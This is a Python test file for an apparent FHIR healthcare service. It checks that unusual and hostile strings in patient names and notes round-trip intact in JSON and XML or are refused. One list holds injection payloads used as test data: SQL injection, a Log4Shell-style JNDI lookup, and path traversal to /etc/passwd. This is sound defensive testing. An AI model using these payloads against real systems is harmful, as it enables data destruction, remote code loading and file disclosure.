"""Hostile texts: as a name and as a note each comes back as it was sent, in JSON and in XML, or is
refused because FHIR forbids it."""
import json
import unittest
import xml.etree.ElementTree as ElementTree

from world import SHARED, World, service_request

FHIR = "{http://hl7.org/fhir}"
OWN = ["", " ", "\u00a0", "\t", "a\nb\r\nc\rd\te", "  two  spaces  ", "]]>&amp;<!--\"'>", "\u202eright to left",
       "e\u0301 \U0001f469\u200d\U0001f467 \U0010fffd", "\ufeffmark", "a\u0001b", "\u000b", "\u0000", "\u007f\u0085",
       "\ufffe", "x" * 100_000, "'; DROP TABLE referral; --", "${jndi:ldap://x.example}", "%00%0a", "../../etc/passwd"]


class Strings(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.world = World()

    @classmethod
    def tearDownClass(cls):
        cls.world.close()

    def send(self, text):
        body = service_request(note=[{"text": text}])
        body["contained"][0]["name"] = [{"family": text}]
        return self.world.fhir("POST", "/ServiceRequest", body)

    def comes_back(self, text):
        """Whether it was taken in."""
        made = self.send(text)
        if made.status == 400:
            return False
        self.assertEqual(made.status, 201, made.body)
        path = f"/ServiceRequest/{made.json['id']}"
        kept = self.world.fhir("GET", path).json
        self.assertEqual(kept["note"][0]["text"], text)
        patient = self.world.fhir("GET", "/" + kept["subject"]["reference"].split("/FHIR/R4/")[-1]).json \
            if not kept["subject"]["reference"].startswith("#") else kept["contained"][0]
        self.assertEqual(patient["name"][0]["family"], text)
        shown = self.world.fhir("GET", path, headers={"Accept": "application/fhir+xml"})
        self.assertEqual(shown.status, 200)
        if shown.headers["content-type"].startswith("application/fhir+xml"):
            note = ElementTree.fromstring(shown.body).find(f"{FHIR}note/{FHIR}text")
            self.assertEqual(note.get("value"), text)
        else:  # what XML cannot carry
            self.assertEqual(shown.json["note"][0]["text"], text)
        return True

    def test_own_texts(self):
        refused = [text for text in OWN if not self.comes_back(text)]
        # Empty, only spaces (FHIR: "at least some non-whitespace content"), NUL.
        self.assertEqual(refused, ["", "\u0000"])

    def test_the_big_list_of_naughty_strings(self):
        file = SHARED / "conformance/strings/blns.json"
        if not file.exists():
            self.skipTest("../shared/conformance/strings is not there")
        texts = json.loads(file.read_text())
        refused = [text for text in texts if not self.comes_back(text)]
        self.assertEqual(refused, [""])
        self.assertGreater(len(texts), 500)

    def test_bodies_of_the_public_parsing_suite_are_refused(self):
        folder = SHARED / "conformance/json/test_parsing"
        if not folder.exists():
            self.skipTest("../shared/conformance/json is not there")
        files = sorted(folder.glob("*.json"))
        self.assertGreater(len(files), 300)
        for file in files:
            with self.subTest(file.name):
                answer = self.world.fhir("POST", "/ServiceRequest", file.read_bytes())
                self.assertEqual(answer.status, 400, answer.body)
                self.assertTrue(answer.issue()["details"]["text"])
        self.assertEqual(self.world.operations("/health/ready").status, 200)

    def test_no_text_reaches_the_log(self):
        self.assertEqual(self.send("Thisnameisunmistakable").status, 201)
        self.assertNotIn("Thisnameisunmistakable", self.world.log())


if __name__ == "__main__":
    unittest.main()
